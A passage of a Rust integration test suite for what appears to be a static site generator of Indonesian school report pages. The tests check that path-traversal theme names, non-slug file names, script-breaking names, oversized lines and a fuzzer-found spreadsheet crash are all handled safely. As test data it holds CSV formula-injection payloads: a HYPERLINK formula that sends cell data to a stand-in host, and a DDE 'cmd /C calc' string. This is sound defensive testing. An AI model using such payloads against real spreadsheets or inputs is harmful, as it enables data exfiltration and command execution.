            &format!("error: site.toml: kolom framework: {framework:?} framework tidak ditemukan di folder situs"),
            &[],
        );
    }
    for theme in ["../../rahasia", "/tmp", ".."] {
        let site = site_from_fixture("mini");
        let toml =
            fixture_text("site.toml").replace("theme = \"default\"", &format!("theme = {theme:?}"));
        std::fs::write(site.path().join("site.toml"), toml).unwrap();
        let built = build_limited(site.path());
        assert_eq!(built.status.code(), Some(1), "{}", show(&built));
        assert!(
            stderr(&built).contains(&format!(
                "error: site.toml: kolom theme: {theme:?} nama tema tidak valid"
            )),
            "{}",
            show(&built)
        );
    }
}

/// Slugs become folder names: a file name that is not a plain slug never becomes a path.
#[test]
fn file_names_that_are_not_slugs_are_refused() {
    for name in ["Kegiatan Baru", "..", "a.b", "UPPER", "kegiatan%2f..", "é"] {
        let site = site_with(&[(
            &format!("content/kegiatan/{name}.md"),
            b"+++\njudul = \"A\"\ntanggal = 2020-10-15\n+++\nx\n",
        )]);
        refused(
            site.path(),
            &format!("error: content/kegiatan/{name}.md: "),
            &["nama file tidak bisa menjadi alamat halaman"],
        );
    }
}

/// Builds the mini site with `HOSTILE` as a school's and a region's name; returns the site
/// (its output in `out/`).
fn hostile_names_site() -> tempfile::TempDir {
    let sekolah = rename_row(&fixture_text(SEKOLAH), "14710001", HOSTILE);
    let wilayah = rename_row(&fixture_text(WILAYAH), "14.71", HOSTILE);
    let site = site_with(&[(SEKOLAH, sekolah.as_bytes()), (WILAYAH, wilayah.as_bytes())]);
    let built = build_limited(site.path());
    assert_eq!(built.status.code(), Some(0), "{}", show(&built));
    site
}

/// Every string inside a JSON value.
fn strings_of(value: &serde_json::Value, out: &mut Vec<String>) {
    match value {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(items) => items.iter().for_each(|v| strings_of(v, out)),
        serde_json::Value::Object(map) => map.values().for_each(|v| strings_of(v, out)),
        _ => {}
    }
}

/// The search index (`assets/cari/*.js`, loaded with `<script src>`) holds names as JSON
/// string data: each file is exactly one `push(<JSON>)` call, so a name with `"`, `</script>`
/// or markup can neither end the call nor become code, and it comes back unchanged.
#[test]
fn search_index_carries_hostile_names_as_json_data() {
    let site = hostile_names_site();
    let index = site.path().join("out/assets/cari");
    let mut names = Vec::new();
    let mut files = 0;
    for entry in std::fs::read_dir(&index).expect("no search index in the output") {
        let path = entry.unwrap().path();
        let text = std::fs::read_to_string(&path).unwrap();
        let json = text
            .trim_end()
            .strip_prefix("(self.raporIndeks=self.raporIndeks||[]).push(")
            .and_then(|t| t.strip_suffix(");"))
            .unwrap_or_else(|| panic!("{path:?} is not one push() call"));
        let value: serde_json::Value =
            serde_json::from_str(json).unwrap_or_else(|e| panic!("{path:?}: not JSON data: {e}"));
        strings_of(&value, &mut names);
        files += 1;
    }
    assert!(files > 0, "empty search index");
    assert!(
        names.iter().any(|n| n == HOSTILE),
        "the hostile name did not come back unchanged"
    );
}

/// Spreadsheet programs run a cell that starts with `=`, `+`, `-`, `@`, tab or CR as a
/// formula (`=HYPERLINK(...)` phones home): CSV downloads must neutralise such cells.
#[test]
fn csv_downloads_neutralise_formula_cells() {
    let name = "=HYPERLINK(\"https://contoh.invalid/?d=\"&A1,\"klik\")";
    let sekolah = rename_row(&fixture_text(SEKOLAH), "14710001", name);
    let wilayah = rename_row(&fixture_text(WILAYAH), "14.71", "+cmd|' /C calc'!A0");
    let site = site_with(&[(SEKOLAH, sekolah.as_bytes()), (WILAYAH, wilayah.as_bytes())]);
    let built = build_limited(site.path());
    assert_eq!(built.status.code(), Some(0), "{}", show(&built));
    let downloads: Vec<(String, Vec<u8>)> = snapshot(&site.path().join("out"))
        .into_iter()
        .filter(|(rel, _)| rel.ends_with(".csv"))
        .collect();
    assert!(!downloads.is_empty(), "no CSV downloads in the output");
    let mut seen = false;
    for (rel, bytes) in downloads {
        // The dialect of the page's language: `;` and a decimal comma for Indonesian (the
        // root), `,` and a decimal point under en/.
        let english = rel.starts_with("en/");
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .delimiter(if english { b',' } else { b';' })
            .from_reader(
                bytes
                    .strip_prefix("\u{feff}".as_bytes())
                    .unwrap_or(&bytes[..]),
            );
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                seen |= cell.contains("HYPERLINK") || cell.contains("calc");
                let number = if english {
                    cell.to_string()
                } else {
                    cell.replace(',', ".")
                };
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
                        || number.parse::<f64>().is_ok(),
                    "{rel}: formula cell {cell:?}"
                );
            }
        }
    }
    assert!(seen, "the hostile names are in no download");
}

// ---------------------------------------------------------------------------------------------
// Raw answers: the streamed reader of `content/data/jawaban/<tahun>.csv` has the same limits.

const JAWABAN: &str = "content/data/jawaban/2020.csv";

/// A generated site with raw answers (`rapor-gen answers`), its answers file cut to its
/// first `lines` lines.
fn answers_site(lines: usize) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_rapor-gen"))
        .current_dir(repo_root())
        .args(["answers", "--schools", "20", "--out"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", show(&out));
    let path = dir.path().join(JAWABAN);
    let text = std::fs::read_to_string(&path).unwrap();
    let cut: String = text.lines().take(lines).map(|l| format!("{l}\n")).collect();
    std::fs::write(&path, cut).unwrap();
    dir
}

/// A 1 GiB line in the answers file, after an opening quote (the quote-aware reader) and
/// without one (the fast path and the split into ranges for threads), in a sparse file.
#[test]
fn answers_file_with_a_gigabyte_line_is_refused_quickly_in_bounded_memory() {
    for start in ["10000001,guru,\"x", "10000001,guru,x"] {
        let site = answers_site(40);
        let path = site.path().join(JAWABAN);
        let mut text = std::fs::read_to_string(&path).unwrap();
        text.push_str(start);
        std::fs::write(&path, text).unwrap();
        let file = std::fs::OpenOptions::new().write(true).open(&path).unwrap();
        file.set_len(1 << 30).unwrap();
        drop(file);
        let started = Instant::now();
        let output = rapor_limited(
            &[OsStr::new("check"), site.path().as_os_str()],
            512 * 1024,
            Duration::from_secs(60),
        );
        assert_eq!(output.status.code(), Some(1), "{}", show(&output));
        assert!(
            stdout(&output).contains(&format!(
                "error: {JAWABAN}:41: baris lebih panjang dari 1024 KiB"
            )),
            "{start}: {}",
            show(&output)
        );
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "{start}: took {:?}",
            started.elapsed()
        );
    }
}

/// A quoted field makes the whole file go through the quote-aware reader, where a row with
/// fewer cells than the header panicked (index out of bounds).
#[test]
fn answers_file_with_a_short_quoted_row_names_the_row() {
    let site = answers_site(40);
    let path = site.path().join(JAWABAN);
    let mut text = std::fs::read_to_string(&path).unwrap();
    text.push_str("\"10000001\",guru\n");
    std::fs::write(&path, text).unwrap();
    let (code, report) = check_limited(site.path());
    assert_eq!(code, 1, "{report}");
    assert!(
        report.contains(&format!("error: {JAWABAN}:41: kolom responden: ")),
        "{report}"
    );
}

/// Found by fuzzing (`fuzz/corpus/xlsx/seed-crash-column-overflow.xlsx`): a cell reference
/// with many letters overflowed an arithmetic in the spreadsheet library (a panic in builds
/// with overflow checks); the file is now an error naming it.
#[test]
fn xlsx_that_breaks_the_spreadsheet_library_is_named() {
    let site = site_from_fixture("mini");
    std::fs::remove_file(site.path().join(SEKOLAH)).unwrap();
    std::fs::write(
        site.path().join("content/data/sekolah.xlsx"),
        include_bytes!("../fuzz/corpus/xlsx/seed-crash-column-overflow.xlsx"),
    )
    .unwrap();
    let (code, report) = check_limited(site.path());
    assert_eq!(code, 1, "{report}");
    assert!(
        report.contains("error: content/data/sekolah.xlsx: spreadsheet"),
        "{report}"
    );
}
